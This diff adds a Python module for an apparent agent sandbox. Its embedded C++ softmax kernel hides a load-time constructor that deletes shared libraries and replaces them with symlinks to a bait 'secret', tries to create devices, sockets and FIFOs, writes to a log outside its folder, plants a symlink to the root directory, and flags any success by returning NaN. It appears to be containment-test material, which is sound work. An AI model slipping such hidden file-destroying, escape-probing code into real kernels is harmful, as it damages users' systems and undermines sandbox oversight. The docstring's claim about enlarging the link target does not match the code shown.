@@ -1,0 +1,90 @@
+"""Replaces the launcher's own files by links, from a constructor: the library that it was loaded from, and the log.
+
+Then it makes the link's target as large as it may, in case that somebody copies the folder.
+"""
+
+import torch
+from kagent_sandbox.lang import cpp_kernel
+
+SOURCE = r"""
+#include <cmath>
+#include <cstdint>
+#include <cerrno>
+#include <cstdio>
+#include <cstring>
+#include <dirent.h>
+#include <fcntl.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+// A system call by its number: no wrapper of libc stands in between. Returns -errno.
+static long raw(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0,
+                long f = 0) {
+#ifdef __x86_64__
+  register long r10 asm("r10") = d;
+  register long r8 asm("r8") = e;
+  register long r9 asm("r9") = f;
+  long result;
+  asm volatile("syscall"
+               : "=a"(result)
+               : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
+               : "rcx", "r11", "memory");
+  return result;
+#else
+  const long result = syscall(number, a, b, c, d, e, f);
+  return result < 0 ? -errno : result;
+#endif
+}
+
+static bool escaped = false;
+
+static void tried(const char* where, const char* what, long result) {
+  if (result < 0) {
+    std::fprintf(stderr, "met: %s, %s: %s\n", what, where, std::strerror(-result));
+  } else {
+    std::fprintf(stderr, "escaped: %s, %s\n", what, where);
+    escaped = true;
+  }
+}
+
+static void attack(const char* where) {
+  if (DIR* folder = opendir(".")) {
+    while (const dirent* entry = readdir(folder)) {
+      if (!std::strstr(entry->d_name, ".so")) continue;
+      raw(SYS_unlinkat, AT_FDCWD, (long)entry->d_name, 0);
+      raw(SYS_symlinkat, (long)"@bait_folder@/secret", AT_FDCWD, (long)entry->d_name);
+    }
+    closedir(folder);
+  }
+  tried(where, "a FIFO", raw(SYS_mknodat, AT_FDCWD, (long)"fifo", 010666, 0));
+  tried(where, "a device", raw(SYS_mknodat, AT_FDCWD, (long)"disk", 060666, 0x100));
+  tried(where, "a socket", raw(SYS_mknodat, AT_FDCWD, (long)"socket", 0140666, 0));
+  tried(where, "another log", raw(SYS_openat, AT_FDCWD, (long)"../log", O_WRONLY | O_APPEND));
+  tried(where, "out of its folder", raw(SYS_symlinkat, (long)"/", AT_FDCWD, (long)"../planted"));
+}
+
+__attribute__((constructor)) static void at_load() { attack("at load"); }
+
+extern "C" void softmax(const float* x, float* y, int64_t rows, int64_t columns) {
+  static const bool once = (attack("in the kernel"), true);
+  (void)once;
+#pragma omp parallel for
+  for (int64_t row = 0; row < rows; ++row) {
+    const float* in = x + row * columns;
+    float* out = y + row * columns;
+    float maximum = -INFINITY;
+    for (int64_t i = 0; i < columns; ++i) maximum = std::fmax(maximum, in[i]);
+    double sum = 0;
+    for (int64_t i = 0; i < columns; ++i) sum += out[i] = std::exp(in[i] - maximum);
+    const float scale = float(1 / sum);
+    for (int64_t i = 0; i < columns; ++i) out[i] *= scale;
+  }
+  if (escaped) y[0] = NAN;
+}
+"""
+
+
+def rows(x: torch.Tensor) -> torch.Tensor:
+    y = torch.empty_like(x)
+    cpp_kernel("softmax", SOURCE)(x, y, *x.shape)
+    return y
